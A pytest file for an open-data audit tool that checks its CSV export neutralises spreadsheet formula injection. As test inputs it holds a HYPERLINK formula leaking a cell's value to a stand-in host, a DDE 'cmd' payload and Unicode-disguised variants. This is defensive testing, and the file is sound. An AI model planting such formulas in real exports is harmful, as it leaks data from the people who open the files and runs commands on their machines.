"""CSV exports: a header, one row per observation, formula-safe text cells."""

from __future__ import annotations

import csv
import io

import pytest

from odaudit.export import COLUMNS, export_csv, neutralise
from odaudit.models import (
    Dataset,
    DatasetScore,
    Finding,
    InstitutionScore,
    Resource,
    ScoreCard,
    Severity,
)
from odaudit.store.view import DatasetView, InstitutionView, RunManifest, RunView

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _view() -> RunView:
    ds = Dataset(id="ds-1", title=HOSTILE, resources=[Resource(url="http://x/a.csv")])
    finding = Finding(
        code="LI001",
        severity=Severity.ERROR,
        message="+cmd|' /C calc'!A0",
        institution="MINFIN",
        dataset_id="ds-1",
        fix="-Declare una licencia",
    )
    inst = InstitutionView(
        code="MINFIN",
        name="@Finanzas",
        sector="finanzas",
        datasets=[DatasetView(dataset=ds, probes={}, findings=[finding])],
    )
    card = ScoreCard(
        methodology="m",
        methodology_version="1",
        rules_hash="h",
        national_score=-0.0,
        national_band="insuficiente",
        institutions=[
            InstitutionScore(
                "MINFIN",
                "@Finanzas",
                {"license": 0.0},
                10.0,
                None,
                10.0,
                "insuficiente",
                1,
                1,
                1,
                1,
            )
        ],
        datasets=[DatasetScore("MINFIN", "ds-1", HOSTILE, {"license": 0.0, "format": 100.0}, 10.0)],
    )
    return RunView(RunManifest(run_id=7), {}, [inst], card)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "\uff1d1+1",  # full-width =
        "\ufe62cmd|' /C calc'!A0",  # small +
        "\uff20SUM(A1)",  # full-width @
        "\uff0d1",  # full-width -
        " =1+1",
        '\n=HYPERLINK("http://evil.example")',
        "\u00a0@SUM(A1)",
        "\u200b=1",
        "\ufeff=1",
    ],
)
def test_disguised_formula_cells_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


def test_numbers_and_plain_text_untouched() -> None:
    assert neutralise(-3.5) == -3.5
    assert neutralise("Ministerio") == "Ministerio"
    assert neutralise(" Ministerio = Finanzas") == " Ministerio = Finanzas"
    assert neutralise("") == ""
    assert neutralise(None) is None


@pytest.mark.parametrize("level", ["institution", "dataset", "dimension", "finding"])
def test_every_level_has_header_and_safe_cells(level: str) -> None:
    text = export_csv(_view(), level)
    table = list(csv.reader(io.StringIO(text)))
    assert tuple(table[0]) == COLUMNS[level]
    assert len(table) > 1
    for row in table[1:]:
        assert len(row) == len(COLUMNS[level])
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            # negative numbers we computed may start with '-', text may not
            if cell.startswith("-"):
                float(cell)


def test_dataset_level_values() -> None:
    rows = list(csv.DictReader(io.StringIO(export_csv(_view(), "dataset"))))
    assert rows[0]["title"] == "'" + HOSTILE
    assert rows[0]["license"] == "0.0"
    assert rows[0]["format"] == "100.0"
    assert rows[0]["validity"] == ""  # not scored under this methodology
    assert rows[0]["run_id"] == "7"


def test_writes_to_a_stream() -> None:
    buffer = io.StringIO()
    export_csv(_view(), "finding", buffer)
    assert buffer.getvalue().splitlines()[0].startswith("run_id,institution")


def test_unknown_level() -> None:
    with pytest.raises(ValueError, match="unknown level"):
        export_csv(_view(), "nation")


def test_unscored_run_is_an_error() -> None:
    view = _view()
    view.scorecard = None
    with pytest.raises(ValueError, match="no scores"):
        export_csv(view, "institution")


def test_json_export_is_the_whole_run() -> None:
    import json

    from odaudit.export import export_json

    doc = json.loads(export_json(_view()))
    assert doc["national"]["band"] == "insuficiente"
    [inst] = doc["institutions"]
    assert inst["code"] == "MINFIN"
    assert inst["datasets"][0]["title"] == HOSTILE  # JSON keeps values as they are
    assert inst["datasets"][0]["findings"][0]["severity"] == "error"
    assert inst["datasets"][0]["score"]["score"] == 10.0


def test_datapackage_is_valid_for_frictionless(tmp_path) -> None:  # type: ignore[no-untyped-def]
    import json

    from frictionless import Package, validate

    from odaudit.export import export_datapackage

    path = export_datapackage(_view(), tmp_path / "pkg")
    report = validate(str(path))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = Package(str(path))
    assert sorted(r.name for r in package.resources) == [
        "dataset_scores",
        "dimension_scores",
        "findings",
        "institution_scores",
    ]
    descriptor = json.loads(path.read_text())
    fields = {f["name"]: f for f in descriptor["resources"][0]["schema"]["fields"]}
    assert fields["score"]["type"] == "number"
